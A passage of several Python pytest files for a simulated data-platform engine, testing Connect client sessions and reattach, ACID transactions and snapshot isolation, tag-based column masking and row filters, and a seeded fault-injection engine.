        alice = standard_cluster.connect("alice")
        orders = alice.table("main.sales.orders").alias("a")
        us = (
            alice.table("main.sales.orders")
            .filter(col("region") == "US")
            .alias("b")
        )
        semi = orders.join(us, col("a.id") == col("b.id"), how="semi").collect()
        assert sorted(r[0] for r in semi) == [1, 3]
        anti = orders.join(us, col("a.id") == col("b.id"), how="anti").collect()
        assert sorted(r[0] for r in anti) == [2, 4]

    def test_cross_join_via_client(self, workspace, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        left = alice.create_data_frame({"x": [1, 2]})
        right = alice.create_data_frame({"y": ["a", "b", "c"]})
        assert len(left.join(right, on=None, how="cross").collect()) == 6

    def test_to_dict(self, workspace, standard_cluster, alice_client):
        data = alice_client.table("main.sales.orders").select("*").to_dict()
        assert set(k.split(".")[-1] for k in data) == {"id", "region", "amount", "buyer"}

    def test_union_via_client(self, workspace, standard_cluster, alice_client):
        df = alice_client.table("main.sales.orders")
        assert df.union(df).count() == 8

    def test_count_via_client(self, workspace, standard_cluster, alice_client):
        assert alice_client.table("main.sales.orders").count() == 4

    def test_interrupt_api(self, workspace, standard_cluster, admin_client):
        """Interrupting a finished/unknown operation surfaces cleanly."""
        from repro.errors import OperationGoneError

        with pytest.raises(OperationGoneError):
            admin_client.interrupt("op-nonexistent")

    def test_range_single_arg(self, workspace, standard_cluster, admin_client):
        assert admin_client.range(3).collect() == [(0,), (1,), (2,)]

    def test_case_builder_without_else(self, workspace, standard_cluster, alice_client):
        from repro.connect.client import col, when

        rows = alice_client.table("main.sales.orders").select(
            when(col("amount") > 25.0, "big").end().alias("b")
        ).collect()
        assert sorted(rows, key=repr) == sorted(
            [(None,), (None,), ("big",), ("big",)], key=repr
        )
