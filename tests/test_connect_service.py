"""Tests for the Connect service, sessions, reattach, and the client."""

import pytest

from repro.catalog.privileges import UserContext
from repro.common.clock import VirtualClock
from repro.connect import proto
from repro.connect.channel import FaultInjector, InProcessChannel, LatencyModel
from repro.connect.client import SparkConnectClient, col, lit, sum_
from repro.connect.service import SparkConnectService
from repro.connect.sessions import SessionManager
from repro.errors import (
    OperationGoneError,
    SessionError,
    VersionIncompatibleError,
)


class EchoBackend:
    """Minimal backend: local relations execute, commands echo."""

    def authenticate(self, user):
        return UserContext(user=user)

    def execute_relation(self, session, relation):
        if relation["@type"] == "relation.local":
            return relation["schema"], [list(c) for c in relation["columns"]]
        if relation["@type"] == "relation.range":
            values = list(range(relation["start"], relation["end"], relation["step"]))
            return [{"name": "id", "type": "int"}], [values]
        raise AssertionError(f"echo backend cannot run {relation['@type']}")

    def execute_command(self, session, command):
        return {"echo": command.get("sql", "")}

    def analyze_relation(self, session, relation):
        schema, _ = self.execute_relation(session, relation)
        return schema

    def on_session_closed(self, session):
        self.closed_session = session.session_id


@pytest.fixture
def clock():
    return VirtualClock()


@pytest.fixture
def service(clock):
    return SparkConnectService(EchoBackend(), clock=clock)


@pytest.fixture
def channel(service, clock):
    return InProcessChannel(service, clock=clock)


class TestSessionLifecycle:
    def test_create_session(self, channel):
        client = SparkConnectClient(channel, user="alice")
        assert client.session_id.startswith("session-")
        assert client.server_version == proto.PROTOCOL_VERSION

    def test_session_is_user_private(self, service, channel):
        client = SparkConnectClient(channel, user="alice")
        with pytest.raises(SessionError):
            service.sessions.get_session(client.session_id, "bob")

    def test_close_session(self, channel, service):
        client = SparkConnectClient(channel, user="alice")
        sid = client.session_id
        client.close()
        with pytest.raises(SessionError):
            service.sessions.get_session(sid, "alice")

    def test_idle_eviction(self, clock):
        manager = SessionManager(clock=clock, session_ttl=10.0)
        session = manager.create_session(UserContext(user="alice"))
        clock.advance(11.0)
        expired = manager.expire_idle_sessions()
        assert session.session_id in expired

    def test_activity_refreshes_ttl(self, clock):
        manager = SessionManager(clock=clock, session_ttl=10.0)
        session = manager.create_session(UserContext(user="alice"))
        clock.advance(8.0)
        manager.get_session(session.session_id, "alice")
        clock.advance(8.0)
        assert manager.expire_idle_sessions() == []

    def test_config_roundtrip(self, channel):
        client = SparkConnectClient(channel, user="alice")
        client.set_config(workload_env="2.0")
        assert client.get_config("workload_env") == {"workload_env": "2.0"}

    def test_version_rejection(self, channel):
        with pytest.raises(VersionIncompatibleError):
            SparkConnectClient(channel, user="alice", client_version=99)

    def test_old_client_accepted(self, channel):
        client = SparkConnectClient(channel, user="alice", client_version=1)
        assert client.range(3).collect() == [(0,), (1,), (2,)]


class TestExecution:
    def test_collect_roundtrip(self, channel):
        client = SparkConnectClient(channel, user="alice")
        df = client.create_data_frame({"a": [1, 2, 3], "b": ["x", "y", "z"]})
        assert df.collect() == [(1, "x"), (2, "y"), (3, "z")]

    def test_result_batching(self, service, clock):
        service_small = SparkConnectService(
            EchoBackend(), clock=clock, result_batch_rows=10
        )
        channel = InProcessChannel(service_small, clock=clock)
        client = SparkConnectClient(channel, user="alice")
        rows = client.range(95).collect()
        assert len(rows) == 95
        # 1 schema + 10 batches + 1 complete were streamed.
        assert channel.stats.responses >= 12

    def test_command_result(self, channel):
        client = SparkConnectClient(channel, user="alice")
        payload = client.execute_command(proto.sql_command("GRANT X ON y TO z"))
        assert payload == {"echo": "GRANT X ON y TO z"}

    def test_analyze(self, channel):
        client = SparkConnectClient(channel, user="alice")
        schema = client.range(5).schema()
        assert schema == [{"name": "id", "type": "int"}]

    def test_empty_result(self, channel):
        client = SparkConnectClient(channel, user="alice")
        assert client.create_data_frame({"a": []}).collect() == []


class TestReattach:
    def test_client_survives_connection_drops(self, service, clock):
        """The load-balancer-cuts-the-stream scenario (§3.2.2)."""
        service = SparkConnectService(EchoBackend(), clock=clock, result_batch_rows=5)
        faults = FaultInjector(drop_stream_after=3, times=2)
        channel = InProcessChannel(service, clock=clock, faults=faults)
        client = SparkConnectClient(channel, user="alice")
        rows = client.range(40).collect()
        assert rows == [(i,) for i in range(40)]
        assert channel.stats.connections_dropped == 2

    def test_reattach_resumes_from_index(self, service, channel):
        client = SparkConnectClient(channel, user="alice")
        request = {
            "session_id": client.session_id,
            "user": "alice",
            "client_version": proto.PROTOCOL_VERSION,
            "plan": proto.range_relation(0, 3),
            "operation_id": "op-fixed",
        }
        items = list(channel.call_stream("execute_plan", request))
        # Re-fetch everything after the first item.
        again = list(
            channel.call_stream(
                "reattach_execute",
                {
                    "session_id": client.session_id,
                    "user": "alice",
                    "operation_id": "op-fixed",
                    "last_index": 0,
                },
            )
        )
        assert again == items[1:]

    def test_release_tombstones_operation(self, service, channel):
        client = SparkConnectClient(channel, user="alice")
        client.range(3).collect()  # collect() releases automatically
        # The operation is gone; reattach must say so, loudly.
        ops = list(service.sessions._tombstones)
        assert ops
        with pytest.raises(OperationGoneError):
            service.sessions.get_operation(ops[-1], client.session_id)

    def test_abandoned_operations_reaped(self, clock):
        manager = SessionManager(clock=clock, operation_abandon_after=30.0)
        session = manager.create_session(UserContext(user="alice"))
        op = manager.start_operation(session.session_id)
        clock.advance(31.0)
        reaped = manager.reap_abandoned_operations()
        assert op.operation_id in reaped
        with pytest.raises(OperationGoneError, match="abandoned"):
            manager.get_operation(op.operation_id, session.session_id)


class TestLatencyModel:
    def test_latency_charged_to_clock(self, service, clock):
        latency = LatencyModel(request_seconds=0.01, per_response_seconds=0.002)
        channel = InProcessChannel(service, clock=clock, latency=latency)
        before = clock.now()
        client = SparkConnectClient(channel, user="alice")
        client.range(5).collect()
        assert clock.now() > before

    def test_bytes_counted(self, channel):
        client = SparkConnectClient(channel, user="alice")
        client.range(100).collect()
        assert channel.stats.bytes_sent > 0
        assert channel.stats.bytes_received > channel.stats.bytes_sent


class TestDataFrameAPI:
    """Client-side plan building (no engine involved)."""

    def test_filter_string_becomes_sql_expr(self, channel):
        client = SparkConnectClient(channel, user="alice")
        df = client.range(5).filter("id > 2")
        assert df.relation["condition"]["@type"] == "expr.sql"

    def test_column_operators(self):
        expr = ((col("a") + 1) * 2 > lit(10)).expr
        assert expr["@type"] == "expr.binary"
        assert expr["op"] == ">"

    def test_groupby_agg_shape(self, channel):
        client = SparkConnectClient(channel, user="alice")
        df = client.range(5).group_by(col("id")).agg(sum_("id").alias("s"))
        assert df.relation["@type"] == "relation.aggregate"
        assert len(df.relation["aggregates"]) == 2  # key + aggregate

    def test_with_column(self, channel):
        client = SparkConnectClient(channel, user="alice")
        df = client.range(3).with_column("twice", col("id") * 2)
        exprs = df.relation["expressions"]
        assert exprs[0]["@type"] == "expr.star"
        assert exprs[1]["name"] == "twice"

    def test_isin_flattens(self):
        assert col("x").isin([1, 2, 3]).expr["values"] == [1, 2, 3]
        assert col("x").isin(1, 2).expr["values"] == [1, 2]

    def test_when_otherwise(self):
        from repro.connect.client import when

        expr = when(col("a") > 1, "big").otherwise("small").expr
        assert expr["@type"] == "expr.case"
        assert expr["otherwise"]["value"] == "small"
