"""ACID write-path tests: atomic commits, conflicts, snapshot isolation.

Covers the PR-10 transaction tier from the storage primitive up to the SQL
surface: ``put_if_absent`` as the commit point, the lost-update regression
the old blind append/overwrite path allowed, optimistic conflict detection
and retry, snapshot isolation for reads inside BEGIN/COMMIT, abort
invisibility to the caches, the ``system.access.txn_stats`` table, and the
wire codec round-trip of the three new error classes.
"""

from __future__ import annotations

import pytest

from repro.common.clock import VirtualClock
from repro.connect.service import error_to_message, raise_from_message
from repro.errors import (
    AnalysisError,
    CommitConflictError,
    TransactionAbortedError,
    WriteDeniedError,
)
from repro.platform import Workspace
from repro.storage import CredentialVendor, ObjectStore
from repro.storage.credentials import DELETE, LIST, READ, WRITE

ORDERS = "main.sales.orders"


@pytest.fixture
def workspace():
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    ws.add_group("analysts", ["alice"])
    cat = ws.catalog
    cat.create_catalog("main", owner="admin")
    cat.create_schema("main.sales", owner="admin")
    yield ws
    ws.shutdown()


@pytest.fixture
def cluster(workspace):
    return workspace.create_standard_cluster()


@pytest.fixture
def admin(cluster):
    client = cluster.connect("admin")
    client.sql(
        f"CREATE TABLE {ORDERS} (id int, region string, amount float)"
    )
    client.sql(
        f"INSERT INTO {ORDERS} VALUES "
        "(1,'US',10.0),(2,'EU',20.0),(3,'US',30.0)"
    )
    return client


def rows(client, sql):
    return sorted(client.sql(sql).collect())


class TestPutIfAbsent:
    def test_first_writer_wins(self):
        clock = VirtualClock()
        store = ObjectStore(clock=clock)
        vendor = CredentialVendor(clock=clock, ttl_seconds=60.0)
        cred = vendor.issue("root", ["s3://b"], {READ, WRITE, LIST, DELETE})
        store.put_if_absent("s3://b/x", b"one", cred)
        with pytest.raises(CommitConflictError):
            store.put_if_absent("s3://b/x", b"two", cred)
        assert store.get("s3://b/x", cred) == b"one"

    def test_conflict_is_retryable_typed(self):
        from repro.errors import RetryableError, StorageError

        assert issubclass(CommitConflictError, StorageError)
        assert issubclass(CommitConflictError, RetryableError)


class TestLostUpdateRegression:
    def test_racing_appends_both_survive(self, workspace, admin):
        """Two writers appending concurrently must both land (no blind put).

        Before the atomic commit protocol, the second append's metadata
        write clobbered the first: last-writer-wins on the log object. Now
        the loser of the version race rebases and re-commits, so both
        appends survive in the final snapshot.
        """
        catalog = workspace.catalog
        table = catalog.get_table(ORDERS)
        storage = catalog.table_storage(table)
        cred = catalog._service_credential
        base = storage.snapshot(cred).version

        # Interleave at the storage layer: both writers observed ``base``;
        # writer A commits first; writer B must not overwrite A's commit.
        file_a = storage.stage_data_file({"id": [10], "region": ["US"],
                                          "amount": [1.0]}, cred)
        file_b = storage.stage_data_file({"id": [11], "region": ["EU"],
                                          "amount": [2.0]}, cred)
        names = list(table.schema.names)

        def add(data_file):
            return {
                "add": data_file.path,
                "rows": data_file.num_rows,
                "bytes": data_file.size_bytes,
            }

        storage.commit_version(base + 1, [add(file_a)], names, cred)
        with pytest.raises(CommitConflictError):
            storage.commit_version(base + 1, [add(file_b)], names, cred)
        # Writer B rebases onto the new tip instead of clobbering it.
        storage.commit_version(base + 2, [add(file_b)], names, cred)
        snap = storage.snapshot(cred)
        data = storage.read_all(cred)
        assert snap.version == base + 2
        assert sorted(data["id"]) == [1, 2, 3, 10, 11]

    def test_sql_level_concurrent_inserts_all_land(self, workspace, admin):
        import threading

        cluster2 = workspace.create_standard_cluster(name="second")
        other = cluster2.connect("admin")
        errors: list[Exception] = []

        def insert(client, offset):
            try:
                for i in range(5):
                    client.sql(
                        f"INSERT INTO {ORDERS} VALUES "
                        f"({offset + i},'US',1.0)"
                    )
            except Exception as exc:  # noqa: BLE001 - collected for assert
                errors.append(exc)

        threads = [
            threading.Thread(target=insert, args=(admin, 100)),
            threading.Thread(target=insert, args=(other, 200)),
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert errors == []
        ids = [r[0] for r in rows(admin, f"SELECT id FROM {ORDERS}")]
        assert set(range(100, 105)) <= set(ids)
        assert set(range(200, 205)) <= set(ids)


class TestConflictDetection:
    def test_read_dependent_commit_conflicts_when_pin_stale(
        self, workspace, admin
    ):
        catalog = workspace.catalog
        ctx = catalog.principals.context_for("admin")
        txn = catalog.txn_manager.begin(ctx)
        txn.update(ORDERS, {"amount": _lit(99.0)}, None)
        # Another writer advances the table past the transaction's pin.
        admin.sql(f"INSERT INTO {ORDERS} VALUES (50,'US',5.0)")
        with pytest.raises(CommitConflictError):
            txn.commit()
        assert txn.state == "aborted"

    def test_run_retries_conflicts_to_success(self, workspace, admin):
        catalog = workspace.catalog
        ctx = catalog.principals.context_for("admin")
        interfered = []

        def body(txn):
            txn.update(ORDERS, {"amount": _lit(99.0)}, None)
            if not interfered:
                interfered.append(True)
                admin.sql(f"INSERT INTO {ORDERS} VALUES (60,'US',6.0)")

        catalog.txn_manager.run(ctx, body)
        amounts = {
            r[1] for r in rows(admin, f"SELECT id, amount FROM {ORDERS}")
        }
        assert amounts == {99.0}
        stats = catalog.txn_manager.stats_snapshot()
        assert stats["conflicts"] >= 1
        assert stats["committed"] >= 1

    def test_blind_inserts_do_not_conflict(self, workspace, admin):
        catalog = workspace.catalog
        ctx = catalog.principals.context_for("admin")
        txn = catalog.txn_manager.begin(ctx)
        txn.insert(ORDERS, [(70, "US", 7.0)])
        admin.sql(f"INSERT INTO {ORDERS} VALUES (71,'US',7.0)")
        txn.commit()  # append rebases; no conflict surfaces
        ids = [r[0] for r in rows(admin, f"SELECT id FROM {ORDERS}")]
        assert 70 in ids and 71 in ids


class TestSnapshotIsolation:
    def test_reads_pin_at_begin(self, workspace, cluster, admin):
        admin.sql("BEGIN")
        before = rows(admin, f"SELECT id FROM {ORDERS}")
        # A different session commits mid-transaction.
        other = workspace.create_standard_cluster(name="other").connect(
            "admin"
        )
        other.sql(f"INSERT INTO {ORDERS} VALUES (80,'US',8.0)")
        during = rows(admin, f"SELECT id FROM {ORDERS}")
        assert during == before  # pinned snapshot: new row invisible
        admin.sql("COMMIT")
        after = rows(admin, f"SELECT id FROM {ORDERS}")
        assert (80,) in after

    def test_staged_writes_invisible_until_commit(self, workspace, admin):
        admin.sql("BEGIN")
        admin.sql(f"INSERT INTO {ORDERS} VALUES (90,'US',9.0)")
        assert (90,) not in rows(admin, f"SELECT id FROM {ORDERS}")
        admin.sql("COMMIT")
        assert (90,) in rows(admin, f"SELECT id FROM {ORDERS}")

    def test_rollback_discards_staged_writes(self, workspace, admin):
        admin.sql("BEGIN TRANSACTION")
        admin.sql(f"DELETE FROM {ORDERS}")
        admin.sql("ROLLBACK")
        assert len(rows(admin, f"SELECT id FROM {ORDERS}")) == 3

    def test_nested_begin_rejected(self, workspace, admin):
        admin.sql("BEGIN")
        with pytest.raises(AnalysisError):
            admin.sql("BEGIN")
        admin.sql("ROLLBACK")

    def test_commit_without_begin_rejected(self, workspace, admin):
        with pytest.raises(AnalysisError):
            admin.sql("COMMIT")
        with pytest.raises(AnalysisError):
            admin.sql("ROLLBACK")


class TestAbortCacheInvisibility:
    def test_abort_does_not_bump_data_epoch(self, workspace, admin):
        catalog = workspace.catalog
        admin.sql("BEGIN")
        admin.sql(f"INSERT INTO {ORDERS} VALUES (95,'US',9.5)")
        epoch = catalog.data_epoch
        admin.sql("ROLLBACK")
        assert catalog.data_epoch == epoch

    def test_commit_bumps_data_epoch_once(self, workspace, admin):
        catalog = workspace.catalog
        admin.sql("BEGIN")
        admin.sql(f"INSERT INTO {ORDERS} VALUES (96,'US',9.6)")
        admin.sql(f"INSERT INTO {ORDERS} VALUES (97,'US',9.7)")
        epoch = catalog.data_epoch
        admin.sql("COMMIT")
        assert catalog.data_epoch == epoch + 1

    def test_aborted_write_invisible_to_result_cache(self, workspace):
        ws = workspace
        cluster = ws.create_standard_cluster(
            name="cached", result_cache_enabled=True
        )
        client = cluster.connect("admin")
        client.sql(f"CREATE TABLE {ORDERS} (id int, region string, amount float)")
        client.sql(f"INSERT INTO {ORDERS} VALUES (1,'US',10.0)")
        warm = rows(client, f"SELECT id FROM {ORDERS}")
        client.sql("BEGIN")
        client.sql(f"INSERT INTO {ORDERS} VALUES (2,'EU',20.0)")
        client.sql("ROLLBACK")
        assert rows(client, f"SELECT id FROM {ORDERS}") == warm


class TestTxnStatsTable:
    def test_admin_sees_counters(self, workspace, admin):
        admin.sql("BEGIN")
        admin.sql(f"INSERT INTO {ORDERS} VALUES (5,'US',5.0)")
        admin.sql("COMMIT")
        stats = {
            (r[0], r[1]): r[2]
            for r in admin.sql(
                "SELECT * FROM system.access.txn_stats"
            ).collect()
        }
        assert stats[("txn[manager]", "begun")] >= 1.0
        assert stats[("txn[manager]", "committed")] >= 1.0
        assert stats[("txn[manager]", "files_staged")] >= 1.0

    def test_non_admin_denied(self, workspace, cluster, admin):
        from repro.errors import PermissionDenied

        admin.sql("GRANT USE CATALOG ON main TO analysts")
        admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
        admin.sql(f"GRANT SELECT ON {ORDERS} TO analysts")
        alice = cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.sql("SELECT * FROM system.access.txn_stats").collect()


class TestErrorCodecRoundTrip:
    @pytest.mark.parametrize(
        "exc",
        [
            CommitConflictError("version 7 lost the race", retry_after=0.25),
            TransactionAbortedError("txn-00001 failed to commit"),
            WriteDeniedError("cannot write to masked column(s) ['buyer']"),
        ],
    )
    def test_round_trip_preserves_class_and_text(self, exc):
        message = error_to_message(exc)
        assert message["error_class"] == type(exc).__name__
        with pytest.raises(type(exc)) as info:
            raise_from_message(message)
        assert str(exc) in str(info.value)

    def test_conflict_retry_after_survives(self):
        message = error_to_message(
            CommitConflictError("lost race", retry_after=0.75)
        )
        with pytest.raises(CommitConflictError) as info:
            raise_from_message(message)
        assert info.value.retry_after == 0.75


def _lit(value):
    from repro.engine.expressions import Literal

    return Literal(value)
