"""Tests for attribute-based access control (tags + tag policies)."""

import pytest

from repro.catalog.abac import (
    TagMaskPolicy,
    TagRowFilterPolicy,
    hash_builder,
    redact_builder,
)
from repro.sql.parser import parse_expression


@pytest.fixture
def tagged(workspace, standard_cluster, admin_client):
    cat = workspace.catalog
    cat.tags.tag_column("main.sales.orders", "buyer", "pii")
    return workspace, standard_cluster, admin_client


class TestTagMasks:
    def test_tagged_column_masked(self, tagged):
        ws, cluster, admin = tagged
        ws.catalog.tags.register(
            TagMaskPolicy("mask-pii", "pii", redact_builder("###"))
        )
        alice = cluster.connect("alice")
        values = {r[3] for r in alice.table("main.sales.orders").collect()}
        assert values == {"###"}

    def test_exempt_group_sees_values(self, tagged):
        ws, cluster, admin = tagged
        ws.catalog.tags.register(
            TagMaskPolicy(
                "mask-pii", "pii", redact_builder("###"),
                exempt_groups=frozenset({"hr"}),
            )
        )
        alice = cluster.connect("alice")   # not hr
        carol = cluster.connect("carol")   # in hr
        assert {r[3] for r in alice.table("main.sales.orders").collect()} == {"###"}
        assert "p1" in {r[3] for r in carol.table("main.sales.orders").collect()}

    def test_hash_mask_is_joinable(self, tagged):
        """SHA-256 masks preserve equality: grouping still works."""
        ws, cluster, admin = tagged
        ws.catalog.tags.register(TagMaskPolicy("hash-pii", "pii", hash_builder()))
        alice = cluster.connect("alice")
        rows = alice.sql(
            "SELECT buyer, count(*) AS n FROM main.sales.orders GROUP BY buyer"
        ).collect()
        assert len(rows) == 4  # four distinct buyers, still distinct hashed
        assert all(len(r[0]) == 64 for r in rows)  # hex digests, not names

    def test_explicit_mask_wins_over_tag_mask(self, tagged):
        ws, cluster, admin = tagged
        ws.catalog.tags.register(
            TagMaskPolicy("mask-pii", "pii", redact_builder("###"))
        )
        admin.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('explicit')"
        )
        alice = cluster.connect("alice")
        values = {r[3] for r in alice.table("main.sales.orders").collect()}
        assert values == {"explicit"}

    def test_untag_restores_visibility(self, tagged):
        ws, cluster, admin = tagged
        ws.catalog.tags.register(
            TagMaskPolicy("mask-pii", "pii", redact_builder("###"))
        )
        ws.catalog.tags.untag_column("main.sales.orders", "buyer", "pii")
        alice = cluster.connect("alice")
        assert "p1" in {r[3] for r in alice.table("main.sales.orders").collect()}

    def test_unregister_policy(self, tagged):
        ws, cluster, admin = tagged
        ws.catalog.tags.register(
            TagMaskPolicy("mask-pii", "pii", redact_builder("###"))
        )
        ws.catalog.tags.unregister("mask-pii")
        alice = cluster.connect("alice")
        assert "p1" in {r[3] for r in alice.table("main.sales.orders").collect()}


class TestTagRowFilters:
    def test_tagged_table_filtered(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        cat.tags.tag_table("main.sales.orders", "regional")
        cat.tags.register(
            TagRowFilterPolicy(
                "us-only", "regional", parse_expression("region = 'US'")
            )
        )
        alice = standard_cluster.connect("alice")
        assert len(alice.table("main.sales.orders").collect()) == 2

    def test_tag_filter_composes_with_explicit(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (amount > 15)")
        cat.tags.tag_table("main.sales.orders", "regional")
        cat.tags.register(
            TagRowFilterPolicy(
                "us-only", "regional", parse_expression("region = 'US'")
            )
        )
        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").collect()
        assert [r[0] for r in rows] == [3]  # US AND amount>15

    def test_exempt_group_bypasses_filter(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        cat.tags.tag_table("main.sales.orders", "regional")
        cat.tags.register(
            TagRowFilterPolicy(
                "us-only", "regional", parse_expression("region = 'US'"),
                exempt_groups=frozenset({"hr"}),
            )
        )
        admin_client.sql("GRANT USE CATALOG ON main TO hr")
        admin_client.sql("GRANT USE SCHEMA ON main.sales TO hr")
        admin_client.sql("GRANT SELECT ON main.sales.orders TO hr")
        alice = standard_cluster.connect("alice")
        carol = standard_cluster.connect("carol")  # in hr
        assert len(alice.table("main.sales.orders").collect()) == 2
        assert len(carol.table("main.sales.orders").collect()) == 4


class TestAbacDrivesEfgac:
    def test_tag_policies_route_dedicated_compute_to_efgac(
        self, workspace, standard_cluster, admin_client
    ):
        """ABAC-only policies must trigger the same privilege-scope logic."""
        cat = workspace.catalog
        cat.tags.tag_column("main.sales.orders", "buyer", "pii")
        cat.tags.register(
            TagMaskPolicy("mask-pii", "pii", redact_builder("###"))
        )
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="abac-d")
        alice = ded.connect("alice")
        rows = alice.table("main.sales.orders").collect()
        assert {r[3] for r in rows} == {"###"}
        assert ded.backend.remote_executor.stats.subqueries >= 1

    def test_equivalence_under_abac(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        cat.tags.tag_table("main.sales.orders", "regional")
        cat.tags.register(
            TagRowFilterPolicy(
                "us-only", "regional", parse_expression("region = 'US'")
            )
        )
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="abac-e")
        query = "SELECT id, region FROM main.sales.orders ORDER BY id"
        std_rows = standard_cluster.connect("alice").sql(query).collect()
        ded_rows = ded.connect("alice").sql(query).collect()
        assert std_rows == ded_rows
