"""The chaos engine and every recovery layer it exercises.

Covers, in one place:

- :class:`~repro.common.faults.FaultInjector` schedule semantics (one-shot,
  strides, seeded probability, corruption, counters surviving disarm);
- deadline-aware retry (`retry_with_backoff` refuses to sleep past an
  ambient query deadline);
- dispatcher self-healing: dead pooled/spare sandboxes evicted on acquire
  and by liveness probes, spares respawned, housekeeping integration;
- at-most-once UDF replay: only a pre-delivery sandbox death is retried,
  and exactly once;
- client reattach after an injected mid-stream connection drop, rejoining
  the original trace;
- the serverless outage switch as a fault point behind the circuit breaker;
- the admin-only ``system.access.fault_stats`` table;
- persistence-tier recovery: corrupted store entries are checksum-rejected
  (healing from a lower tier or recomputing), evictions recompute, and a
  seeded ``store.*`` chaos sweep is observationally equivalent to fault-free;
- a seed-sweep property: a chaos run returns exactly the fault-free
  results, and user code executes at most once per delivered invoke.
"""

import time

import pytest

from repro.common.clock import VirtualClock
from repro.common.context import QueryContext, QueryDeadlineExceeded
from repro.common.faults import FaultInjector, FaultSpec
from repro.engine.udf import udf as engine_udf
from repro.errors import (
    CircuitOpenError,
    ClusterError,
    FaultInjectedError,
    PermissionDenied,
    RetryableError,
    SandboxDied,
)
from repro.platform import Workspace
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime
from repro.scheduler.circuit_breaker import retry_with_backoff


class _RecordingClock:
    """Duck-typed clock that records sleeps instead of taking them."""

    def __init__(self):
        self.slept: list[float] = []

    def now(self) -> float:
        return 0.0

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)


class TestFaultInjectorSchedules:
    def test_unarmed_point_passes(self):
        faults = FaultInjector()
        decision = faults.check("storage.get")
        assert not decision.triggered
        faults.fire("storage.get")  # must not raise
        assert faults.call_count("storage.get") == 0  # unarmed: not counted

    def test_one_shot_fires_once_and_keeps_history(self):
        faults = FaultInjector()
        faults.arm("storage.get", FaultSpec(one_shot=True))
        with pytest.raises(FaultInjectedError):
            faults.fire("storage.get")
        assert not faults.armed("storage.get")
        faults.fire("storage.get")  # disarmed: passes
        assert faults.trigger_count("storage.get") == 1
        assert faults.call_count("storage.get") == 1

    def test_injected_error_is_retryable_by_default(self):
        faults = FaultInjector()
        faults.arm("storage.get")
        with pytest.raises(RetryableError):
            faults.fire("storage.get")

    def test_custom_error_factory(self):
        faults = FaultInjector()
        faults.arm("x", FaultSpec(error=lambda: ValueError("custom")))
        with pytest.raises(ValueError, match="custom"):
            faults.fire("x")

    def test_every_nth_with_after_calls(self):
        faults = FaultInjector()
        faults.arm("p", FaultSpec(every_nth=3, after_calls=2))
        fired = [faults.check("p").triggered for _ in range(12)]
        # Eligible once past call 2, then every 3rd call: 5, 8, 11.
        assert [i + 1 for i, hit in enumerate(fired) if hit] == [5, 8, 11]

    def test_max_triggers_disarms(self):
        faults = FaultInjector()
        faults.arm("p", FaultSpec(max_triggers=2))
        hits = sum(faults.check("p").triggered for _ in range(10))
        assert hits == 2
        assert not faults.armed("p")

    def test_probability_schedule_is_seed_deterministic(self):
        def pattern(seed: int) -> list[bool]:
            faults = FaultInjector(seed=seed)
            faults.arm("p", FaultSpec(probability=0.3))
            return [faults.check("p").triggered for _ in range(200)]

        assert pattern(7) == pattern(7)
        assert pattern(7) != pattern(8)
        assert 0 < sum(pattern(7)) < 200

    def test_per_point_rngs_are_independent(self):
        """Arming a second point must not perturb the first's schedule."""

        def pattern_of_a(arm_b: bool) -> list[bool]:
            faults = FaultInjector(seed=42)
            faults.arm("a", FaultSpec(probability=0.5))
            if arm_b:
                faults.arm("b", FaultSpec(probability=0.5))
            out = []
            for _ in range(100):
                out.append(faults.check("a").triggered)
                if arm_b:
                    faults.check("b")
            return out

        assert pattern_of_a(arm_b=False) == pattern_of_a(arm_b=True)

    def test_corrupt_decision_applies_to_payload(self):
        faults = FaultInjector()
        faults.arm(
            "p",
            FaultSpec(kind="corrupt", corruptor=lambda b: b[::-1], one_shot=True),
        )
        decision = faults.fire("p")  # corrupt faults never raise
        assert decision.triggered
        assert decision.apply(b"abc") == b"cba"
        assert faults.fire("p").apply(b"abc") == b"abc"  # pass-through after

    def test_default_corruptor_mangles_bytes(self):
        faults = FaultInjector()
        faults.arm("p", FaultSpec(kind="corrupt"))
        assert faults.fire("p").apply(b"\x00" * 8) != b"\x00" * 8

    def test_hang_fault_sleeps_on_the_injector_clock(self):
        clock = _RecordingClock()
        faults = FaultInjector(clock=clock)
        faults.arm("p", FaultSpec(kind="hang", hang_seconds=5.0))
        assert faults.check("p").triggered
        assert clock.slept == [5.0]

    def test_only_in_query_gates_on_ambient_context(self):
        faults = FaultInjector()
        faults.arm("p", FaultSpec(only_in_query=True))
        assert not faults.check("p").triggered  # no ambient context
        ctx = QueryContext.create(user="alice")
        with ctx.activate():
            assert faults.check("p").triggered

    def test_counters_survive_disarm_and_rearm(self):
        faults = FaultInjector()
        faults.arm("p")
        faults.check("p")
        faults.disarm("p")
        faults.arm("p", FaultSpec(probability=0.0))
        faults.check("p")
        assert faults.call_count("p") == 2
        assert faults.trigger_count("p") == 1

    def test_stats_snapshot_flattens_points_and_recoveries(self):
        faults = FaultInjector()
        faults.arm("storage.get", FaultSpec(one_shot=True))
        with pytest.raises(FaultInjectedError):
            faults.fire("storage.get")
        faults.record_recovery("scan.task_retry")
        stats = faults.stats_snapshot()
        assert stats["storage.get.calls"] == 1.0
        assert stats["storage.get.triggered"] == 1.0
        assert stats["recovered.scan.task_retry"] == 1.0
        assert stats["armed_points"] == 0.0

    def test_env_arming(self):
        faults = FaultInjector()
        armed = faults.arm_from_env(
            {"LAKEGUARD_CHAOS_RATE": "0.01", "LAKEGUARD_CHAOS_SEED": "1337"}
        )
        assert armed
        assert faults.seed == 1337
        assert faults.armed("storage.get") and faults.armed("sandbox.invoke")
        assert not FaultInjector().arm_from_env({})


class TestDeadlineAwareRetry:
